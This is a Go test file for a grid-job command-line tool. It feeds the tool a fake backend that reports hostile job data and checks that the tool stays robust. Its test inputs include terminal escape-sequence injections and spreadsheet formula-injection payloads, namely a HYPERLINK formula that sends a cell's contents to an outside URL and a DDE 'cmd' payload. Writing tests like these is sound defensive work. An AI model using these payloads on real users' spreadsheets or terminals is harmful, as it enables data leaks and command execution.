package cli_test

import (
	"context"
	"encoding/csv"
	"io"
	"math"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"gridbroker/cmd/cli"
	"gridbroker/glue"
	"gridbroker/plugins"
	"gridbroker/plugins/all"
)

// liar is a computing element that says whatever it likes of its jobs.
type liar struct {
	says plugins.Status
	text func(offset int64) io.Reader // of any file; nil: there is none
	has  []string                     // what it says that a job has left
	no   *plugins.Error               // why it takes no job; nil: it does
}

const liarInterface = "org.example.liar"

func (l *liar) Submit(_ context.Context, reqs []plugins.Request, _ plugins.Progress) []plugins.Result {
	out := make([]plugins.Result, len(reqs))
	for i, r := range reqs {
		out[i] = plugins.Result{ID: r.ID, Handle: plugins.Handle{Interface: liarInterface, Endpoint: r.Endpoint.URL, ID: r.ID}}
		if l.no != nil {
			out[i] = plugins.Result{ID: r.ID, Err: l.no}
		}
	}
	return out
}

func (l *liar) Status(_ context.Context, hs []plugins.Handle) []plugins.Status {
	out := make([]plugins.Status, len(hs))
	for i, h := range hs {
		out[i] = l.says
		out[i].Handle = h
	}
	return out
}

func (l *liar) Cancel(_ context.Context, hs []plugins.Handle) []error { return make([]error, len(hs)) }

func (l *liar) Source(u *url.URL) (plugins.Source, error) { return den(u.String()), nil }

func (l *liar) Peek(_ context.Context, _ plugins.Handle, _ string, offset int64, w io.Writer) (int64, error) {
	if l.text == nil {
		return 0, os.ErrNotExist
	}
	return io.Copy(w, l.text(offset))
}

func (l *liar) Fetch(_ context.Context, jobs []plugins.FetchRequest, _ plugins.Progress) []plugins.FetchResult {
	out := make([]plugins.FetchResult, len(jobs))
	for i := range out {
		out[i].Files = l.has
	}
	return out
}

// den is where the liar is: the URL.
type den string

func (n den) Name() string { return string(n) }

func (n den) Owns(e glue.Endpoint) bool { return e.URL == string(n) }

func (n den) Resources(context.Context) ([]glue.Resource, error) {
	return []glue.Resource{{ID: string(n), Name: "den", CE: "den", Site: "wood", Queue: "any", Schema: "self", Source: string(n), Serving: glue.Production,
		Endpoints: []glue.Endpoint{{URL: string(n), Interface: liarInterface, Health: "ok"}}, FreeSlots: glue.Some[int64](9), TotalSlots: glue.Some[int64](9)}}, nil
}

// atLiar runs a command where the liar is the only place to go to.
func atLiar(t *testing.T, l *liar, args ...string) (code int, out, errs string) {
	t.Helper()
	dir := t.TempDir()
	return atLiarIn(t, dir, l, args...)
}

func atLiarIn(t *testing.T, dir string, l *liar, args ...string) (code int, out, errs string) {
	t.Helper()
	conf := filepath.Join(dir, ".config/grid/grid.toml")
	if err := os.MkdirAll(filepath.Dir(conf), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(conf, []byte(`sources = ["liar:den"]`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	return oneShotWith(t, dir, liars(l), args...)
}

func liars(l *liar) []plugins.Backend {
	return []plugins.Backend{{Name: "liar", Schemes: []string{"liar"}, URLs: []string{"liar:DEN"}, Interfaces: []string{liarInterface},
		Open: func(plugins.Config) (plugins.Submitter, error) { return l, nil }}}
}

// oneShot runs one command in an empty home.
func oneShot(t *testing.T, args ...string) (code int, out, errs string) {
	t.Helper()
	return oneShotWith(t, t.TempDir(), all.Backends(), args...)
}

func oneShotWith(t *testing.T, dir string, backends []plugins.Backend, args ...string) (code int, out, errs string) {
	var o, e syncBuffer
	env := cli.Env{In: strings.NewReader(""), Out: &o, Err: &e, Dir: dir, Now: time.Now, UID: os.Getuid(), Exe: "/nonexistent",
		Getenv: func(name string) string { return map[string]string{"HOME": dir}[name] }, Backends: backends}
	code = cli.Main(t.Context(), env, args)
	return code, o.String(), e.String()
}

// TestExitCodesOfOthers: a job that failed does not become one that went well because the system keeps eight bits of an
// exit code.
func TestExitCodesOfOthers(t *testing.T) {
	t.Parallel()
	for said, want := range map[int]int{0: 0, 1: 1, 255: 255, 256: 255, 512: 255, -1: 255, -256: 255, math.MaxInt: 255, math.MinInt: 255} {
		l := &liar{says: plugins.Status{State: plugins.Done, Native: "ended", ExitCode: glue.Some(said)}}
		code, _, errs := atLiar(t, l, "run", "--", "true")
		if code != want {
			t.Errorf("exit code %d of a computing element: grid run ends with %d, want %d\n%s", said, code, want, errs)
		}
	}
}

// TestTimesOfOthers: what no record can keep of a job, a year that JSON has not, or a reason of megabytes, keeps no
// other job from being followed to its end.
func TestTimesOfOthers(t *testing.T) {
	t.Parallel()
	for _, odd := range []time.Time{time.Unix(1<<53, 0), time.Unix(-1<<53, 0), time.Unix(math.MaxInt64, 0), time.Date(9999, 12, 31, 23, 59, 59, 0, time.UTC)} {
		l := &liar{says: plugins.Status{State: plugins.Done, Native: "ended", ExitCode: glue.Some(0), Reason: strings.Repeat("x", 8<<20),
			Submitted: odd, Started: odd, Ended: odd, Expires: odd, WallTime: math.MinInt64, CPUTime: math.MaxInt64, MaxMemory: -1}}
		dir := t.TempDir()
		sweep := `JobType = "Parametric"; Executable = "/bin/true"; Arguments = "_PARAM_"; Parameters = 3;`
		if err := os.WriteFile(filepath.Join(dir, "j.jdl"), []byte(sweep), 0o600); err != nil {
			t.Fatal(err)
		}
		if code, out, errs := atLiarIn(t, dir, l, "submit", "--wait", "j.jdl"); code != 0 {
			t.Fatalf("%v: code %d\n%.300s\n%.300s", odd, code, out, errs)
		}
		for _, verb := range []string{"list", "show", "status", "log"} {
			code, out, errs := atLiarIn(t, dir, l, verb, "--all", "--json")
			if code != 0 || len(out) > 100<<10 {
				t.Errorf("%v: grid %s: code %d, %d bytes, %.300s", odd, verb, code, len(out), errs)
			}
		}
	}
}

// endless is a file without an end.
type endless struct{}

func (endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = 'x'
	}
	return len(p), nil
}

// TestDocumentsOfEndlessFiles: a document holds so much of a job's file, and the command ends.
func TestDocumentsOfEndlessFiles(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	l := &liar{says: plugins.Status{State: plugins.Done, Native: "ended", ExitCode: glue.Some(0)},
		text: func(int64) io.Reader { return endless{} }}
	code, out, errs := atLiarIn(t, dir, l, "run", "--json", "--", "true")
	if code != 0 || len(out) > 40<<20 || !strings.Contains(errs, "wrote more than the document holds") {
		t.Errorf("run: code %d, %d bytes, %s", code, len(out), errs)
	}
	code, out, errs = atLiarIn(t, dir, l, "list", "--jq", ".jobs[].id")
	if code != 0 {
		t.Fatal(errs)
	}
	code, out, errs = atLiarIn(t, dir, l, "cat", "--json", strings.TrimSpace(out))
	if code != 1 || len(out) > 1<<10 || !strings.Contains(out+errs, "more than the 16 MiB") {
		t.Errorf("cat: code %d, %d bytes, %s", code, len(out), errs)
	}
}

// TestWordsOfOthers: whatever a computing element calls a state, a host and a reason, each is shown on the one line of
// its job, and moves no terminal.
func TestWordsOfOthers(t *testing.T) {
	t.Parallel()
	evil := "\x1b]0;title\x07\n01234567890abcd  fake\r\u202e\u009b31m\xff"
	l := &liar{says: plugins.Status{State: plugins.Failed, Native: evil, Reason: evil, Node: evil, Fault: plugins.JobsFault},
		has: []string{evil, "--help"}}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "j.jdl"), []byte(`JobName = "one"; Executable = "/bin/true"; RetryCount = 0;`), 0o600); err != nil {
		t.Fatal(err)
	}
	code, out, errs := atLiarIn(t, dir, l, "submit", "--wait", "j.jdl")
	if code != 1 {
		t.Fatalf("code %d\n%s%s", code, out, errs)
	}
	harmless := func(args []string, texts ...string) {
		for _, text := range texts {
			if strings.ContainsAny(text, "\x1b\x07\r\u202e\u009b") || strings.Contains(text, "\n01234567890abcd") {
				t.Errorf("grid %s: %q", strings.Join(args, " "), text)
			}
		}
	}
	harmless([]string{"submit"}, out, errs)
	for _, args := range [][]string{{"list"}, {"list", "-o", "wide"}, {"list", "-o", "csv"}, {"list", "--json"}, {"status", "--all"}, {"show", "one"},
		{"log", "--all"}, {"why", "one"}, {"output", "--all"}, {"output", "--all", "--json"}, {"watch", "--all"}} {
		if args[len(args)-1] == "one" {
			_, id, _ := atLiarIn(t, dir, l, "list", "--jq", ".jobs[].id")
			args[len(args)-1] = strings.TrimSpace(id)
		}
		_, out, errs := atLiarIn(t, dir, l, args...)
		harmless(args, out, errs)
		if strings.Contains(args[0], "list") && !strings.Contains(out, "failed") {
			t.Errorf("grid %s: %s%s", strings.Join(args, " "), out, errs)
		}
	}
}

// TestFormulasOfOthers: what a job is called, or is said of it, is no formula for whoever opens the CSV.
func TestFormulasOfOthers(t *testing.T) {
	t.Parallel()
	evil := `=HYPERLINK("https://example.org/?"&A1)`
	l := &liar{says: plugins.Status{State: plugins.Failed, Native: "failed", Reason: evil, Node: "@SUM(1)", ExitCode: glue.Some(-7)}}
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "j.jdl"), []byte(`JobName = "+cmd|' /C calc'!A0"; Executable = "/bin/true"; RetryCount = 0;`), 0o600); err != nil {
		t.Fatal(err)
	}
	atLiarIn(t, dir, l, "submit", "--wait", "j.jdl")
	code, out, errs := atLiarIn(t, dir, l, "list", "-o", "csv")
	if code != 0 || !strings.Contains(out, "'+cmd|") || !strings.Contains(out, "'=HYPERLINK") {
		t.Fatalf("code %d\n%s%s", code, out, errs)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if _, err := strconv.ParseFloat(cell, 64); len(cell) > 1 && strings.ContainsAny(cell[:1], "=+-@") && err != nil {
				t.Errorf("%q", cell)
			}
		}
	}
}
